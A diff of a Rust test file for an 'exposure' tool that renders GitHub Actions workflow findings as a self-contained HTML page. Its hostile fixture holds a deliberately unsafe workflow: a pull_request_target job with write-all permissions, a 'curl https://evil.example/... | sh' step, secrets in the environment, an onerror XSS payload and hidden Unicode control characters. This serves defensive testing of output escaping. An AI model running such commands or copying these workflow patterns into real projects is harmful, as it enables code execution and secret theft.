@@ -12,13 +12,22 @@ use crate::sandbox::Sandbox;
 /// Debian calls it `chromium`.
 const BROWSERS: &[&str] = &["chromium", "chromium-browser", "google-chrome"];
 
-fn page(sandbox: &Sandbox, args: &[&str]) -> String {
+fn page(sandbox: &Sandbox) -> String {
     let root = sandbox.root();
-    let mut all = vec!["exposure", root.to_str().unwrap(), "--format", "html"];
-    all.extend(args);
-    let ran = sandbox.run(&all);
-    assert_eq!((ran.code, ran.err.as_str()), (0, ""), "{}", ran.out);
+    let ran = sandbox.run(&["exposure", root.to_str().unwrap(), "--format", "html"]);
+    // What is hostile is partly not understood.
+    assert!(matches!(ran.code, 0 | 3), "{}", ran.err);
+    assert_eq!(ran.err, "");
     ran.out
+}
+
+fn data(page: &str) -> &str {
+    let (_, data) = page.split_once("id=\"data\">").unwrap();
+    data.split_once("</script>").unwrap().0
+}
+
+fn value(page: &str) -> Value {
+    serde_json::from_str(data(page)).unwrap()
 }
 
 /// The checkout of the picture in the README.
@@ -26,12 +35,10 @@ fn example() -> Sandbox {
     let root = Path::new(env!("CARGO_MANIFEST_DIR"));
     let text = fs::read_to_string(root.join("docs/images/exposure.txtar")).unwrap();
     let sandbox = Sandbox::new();
-    let mut members = text.split("\n-- ").skip(1);
-    members.all(|member| {
+    for member in text.split("\n-- ").skip(1) {
         let (path, content) = member.split_once(" --\n").unwrap();
         sandbox.write(path, format!("{content}\n"));
-        true
-    });
+    }
     sandbox
 }
 
@@ -43,7 +50,7 @@ fn hostile() -> Sandbox {
         "name: \"{end}\\u2028\\u202e\"\non: pull_request_target\npermissions: write-all\njobs:\n  \
         build:\n    name: \"{end}\"\n    runs-on: \"{end}\"\n    environment: \"{end}'\\\"`${{IFS}}\\u202e\\u2028\\u0007\"\n    \
         steps:\n      - uses: actions/checkout@v4\n        with: {{ref: '${{{{ github.event.pull_request.head.sha }}}}'}}\n      \
-        # {end} \u{2028}\u{202e}\u{2066} ##[error]x {{{{script}}}} <!-- <script>\n      \
+        # {end} \u{202e}\u{2066} ##[error]x {{{{script}}}} <!-- <script>\n      \
         - run: \"make '{end}'\\u2028\\u202e && curl https://evil.example/<b>{end} | sh\"\n        \
         env: {{KEY: \"${{{{ secrets.NPM_TOKEN }}}}\", E: \"${{{{ secrets['{end}'] }}}}\"}}\n      \
         - uses: \"acme/<img src=x onerror=hacked=3>@v1\\u202e\"\n      - run: docker push \"ghcr.io/{end}:latest\"\n"
@@ -51,7 +58,9 @@ fn hostile() -> Sandbox {
     sandbox.write(".github/workflows/ci.yml", &workflow);
     // No path separator, which a file's name cannot hold.
     let name = end.replace('/', "\\");
-    sandbox.write(&format!(".github/workflows/{name}.yml"), &workflow);
+    // A line that ends where no editor shows it: the file is not understood.
+    let cut = workflow.replace("##[error]", "\u{2028}");
+    sandbox.write(&format!(".github/workflows/{name}.yml"), cut);
     sandbox
 }
 
@@ -72,7 +81,9 @@ fn cells(sandbox: &Sandbox) -> BTreeMap<String, String> {
     let shown = |counts: [usize; 4]| {
         let words = counts.iter().zip(["", "?", "~", "x"]);
         let words = words.filter(|(count, _)| **count > 0);
-        let words: Vec<String> = words.map(|(count, mark)| format!("{count}{mark}")).collect();
+        let words: Vec<String> = words
+            .map(|(count, mark)| format!("{count}{mark}"))
+            .collect();
         words.join(" ")
     };
     let counts = counts.into_iter();
@@ -86,7 +97,7 @@ fn browser() -> PathBuf {
         .iter()
         .flat_map(|name| folders.iter().map(move |folder| folder.join(name)));
     let found = all.find(|program| program.is_file());
-    found.expect("a Chromium is needed; on Debian `apt-get install chromium`")
+    found.unwrap_or_else(|| panic!("a Chromium is needed; on Debian `apt-get install chromium`"))
 }
 
 /// No request, no message, no violation; matrix, keyboard, search, links, both
@@ -95,8 +106,8 @@ fn browser() -> PathBuf {
 fn the_page_does_in_a_browser_what_it_must() {
     let (shown, attack) = (example(), hostile());
     let folder = shown.outside();
-    fs::write(folder.join("page.html"), page(&shown, &[])).unwrap();
-    fs::write(folder.join("hostile.html"), page(&attack, &[])).unwrap();
+    fs::write(folder.join("page.html"), page(&shown)).unwrap();
+    fs::write(folder.join("hostile.html"), page(&attack)).unwrap();
     let cells = serde_json::to_string(&cells(&shown)).unwrap();
     fs::write(folder.join("cells.json"), cells).unwrap();
     let root = Path::new(env!("CARGO_MANIFEST_DIR"));
@@ -120,19 +131,19 @@ fn the_page_does_in_a_browser_what_it_must() {
 #[test]
 fn the_page_is_one_file_that_names_nothing_elsewhere() {
     for sandbox in [example(), hostile()] {
-        let page_text = page(&sandbox, &[]);
-        assert_eq!(page_text, page(&sandbox, &[]), "the same bytes");
-        let (before, data) = page_text.split_once("id=\"data\">").unwrap();
-        let (data, after) = data.split_once("</script>").unwrap();
-        for part in ["src=", "href=", "url(", "@import", "unsafe-inline", " on"] {
-            let policy_and_script = before.replace("default-src=", "");
-            assert!(part == " on" || !policy_and_script.contains(part), "{part}");
+        let all = page(&sandbox);
+        assert_eq!(all, page(&sandbox), "the same bytes");
+        let data = data(&all);
+        for part in ['<', '>', '&', '\u{2028}', '\u{202e}', '\u{2066}'] {
+            assert!(!data.contains(part), "{part:?}: {data}");
         }
-        assert!(!data.contains(['<', '>', '&', '\u{2028}', '\u{202e}']), "{data}");
-        assert_eq!(after.matches("<script>").count(), 1);
-        let value: Value = serde_json::from_str(data).unwrap();
-        assert!(!value["rows"].as_array().unwrap().is_empty());
-        assert!(before.contains("default-src 'none'; script-src 'sha256-"));
+        assert!(!value(&all)["rows"].as_array().unwrap().is_empty());
+        let ours = all.replace(data, "");
+        for part in [" src=", " href=", "url(", "@import", "unsafe-", "hacked"] {
+            assert!(!ours.contains(part), "{part}");
+        }
+        assert_eq!(ours.matches("<script").count(), 2);
+        assert!(ours.contains("default-src 'none'; script-src 'sha256-"));
     }
 }
 
@@ -143,9 +154,7 @@ fn what_is_not_known_and_not_read_is_on_the_page() {
     let root = sandbox.root();
     let ran = sandbox.run(&["exposure", root.to_str().unwrap(), "--format", "html"]);
     assert_eq!(ran.code, 3);
-    let (_, data) = ran.out.split_once("id=\"data\">").unwrap();
-    let (data, _) = data.split_once("</script>").unwrap();
-    let data: Value = serde_json::from_str(data).unwrap();
+    let data = value(&ran.out);
     let unread = data["unread"].to_string();
     assert!(unread.contains("broken.yml"), "{unread}");
     let facts = data["facts"].to_string();
@@ -168,17 +177,32 @@ fn a_page_of_a_large_repository_stays_small() {
         }
         sandbox.write(&format!(".github/workflows/w{number}.yml"), text);
     }
-    let text = page(&sandbox, &[]);
+    let text = page(&sandbox);
     assert!(text.len() < 3_000_000, "{}", text.len());
-    let (_, data) = text.split_once("id=\"data\">").unwrap();
-    let (data, _) = data.split_once("</script>").unwrap();
-    let data: Value = serde_json::from_str(data).unwrap();
-    let shown = data["rows"].as_array().unwrap().len();
-    let more = data["more"].as_array().unwrap().iter();
-    let more: u64 = more.map(|one| one[3].as_u64().unwrap()).sum();
-    let totals = data["totals"].as_array().unwrap().iter();
-    let totals: u64 = totals.map(|one| one.as_u64().unwrap()).sum();
+    let data = value(&text);
+    let list = |name: &str| data[name].as_array().unwrap();
+    let shown = list("rows").len();
+    let more: u64 = list("more")
+        .iter()
+        .map(|one| one[3].as_u64().unwrap())
+        .sum();
+    let totals = list("totals").iter().map(|one| one.as_u64().unwrap());
     assert!(shown > 1_000 && shown <= 4_000, "{shown}");
     assert!(more > 0);
-    assert_eq!(shown as u64 + more, totals);
+    assert_eq!(shown as u64 + more, totals.sum::<u64>());
+    // No worse pair is left out for one that is on the page.
+    let level = |row: &Value| data["verdicts"][row[2].as_u64().unwrap() as usize]["level"].clone();
+    let cell = |row: &Value| {
+        let asset = row[1].as_u64().unwrap() as usize;
+        (row[0].clone(), data["assets"][asset]["kind"].clone())
+    };
+    for left in list("more") {
+        let here = list("rows")
+            .iter()
+            .filter(|row| cell(row) == (left[0].clone(), left[1].clone()));
+        assert!(here.clone().count() > 0);
+        for row in here {
+            assert!(level(row).as_u64() <= left[2].as_u64(), "{row} and {left}");
+        }
+    }
 }
